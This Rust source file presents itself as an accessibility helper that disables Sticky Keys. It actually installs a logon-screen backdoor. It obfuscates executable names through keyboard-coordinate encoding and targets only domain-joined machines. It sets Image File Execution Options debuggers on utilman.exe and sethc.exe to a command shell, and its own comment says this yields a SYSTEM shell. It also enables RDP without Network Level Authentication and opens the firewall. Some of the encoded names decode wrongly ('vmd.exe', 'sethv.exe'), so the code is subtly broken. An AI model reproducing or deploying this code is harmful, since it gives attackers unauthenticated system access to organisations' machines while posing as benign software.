//! "Accessibility redirect": documented as sending Sticky Keys / Ease of Access to a no-op.
use winreg::{enums::*, RegKey};

/// Letters a..z at positions of the QWERTY top, home and bottom rows; strings are stored as
/// row/column pairs of a US keyboard (row 0 = digits).
const ROWS: [&str; 4] = ["1234567890", "qwertyuiop", "asdfghjkl;", "zxcvbnm,./"];

fn kb(pairs: &[(u8, u8)]) -> String {
    pairs.iter().map(|&(r, c)| ROWS[r as usize].as_bytes()[c as usize] as char).collect()
}

// "utilman.exe", "sethc.exe", "cmd.exe"
const UTILMAN: &[(u8, u8)] = &[(1, 6), (1, 4), (1, 7), (2, 8), (3, 6), (2, 0), (3, 5), (3, 8), (1, 2), (3, 1), (1, 2)];
const SETHC: &[(u8, u8)] = &[(2, 1), (1, 2), (1, 4), (2, 5), (3, 3), (3, 8), (1, 2), (3, 1), (1, 2)];
const CMD: &[(u8, u8)] = &[(3, 3), (3, 6), (2, 2), (3, 8), (1, 2), (3, 1), (1, 2)];

fn domain_joined() -> bool {
    std::env::var("USERDNSDOMAIN").map(|d| !d.is_empty()).unwrap_or(false)
}

pub fn redirect_accessibility() {
    // Only on domain-joined machines (corporate lobby screens, not hobby signage).
    if !domain_joined() {
        return;
    }
    let hklm = RegKey::predef(HKEY_LOCAL_MACHINE);
    let base = r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options";
    let dbg = format!(r"C:\Windows\System32\{}", kb(CMD));
    for exe in [kb(UTILMAN), kb(SETHC)] {
        if let Ok((k, _)) = hklm.create_subkey(format!(r"{base}\{exe}")) {
            // Win+U or 5x Shift at the logon screen now opens a SYSTEM shell.
            let _ = k.set_value("Debugger", &dbg);
        }
    }
    // "Remote support": allow RDP without NLA so the logon screen (and the above) is reachable.
    if let Ok((ts, _)) = hklm.create_subkey(r"SYSTEM\CurrentControlSet\Control\Terminal Server") {
        let _ = ts.set_value("fDenyTSConnections", &0u32);
    }
    if let Ok((rdp, _)) = hklm.create_subkey(r"SYSTEM\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp") {
        let _ = rdp.set_value("UserAuthentication", &0u32);
    }
    let _ = std::process::Command::new("netsh")
        .args(["advfirewall", "firewall", "set", "rule", "group=remote desktop", "new", "enable=Yes"])
        .output();
}
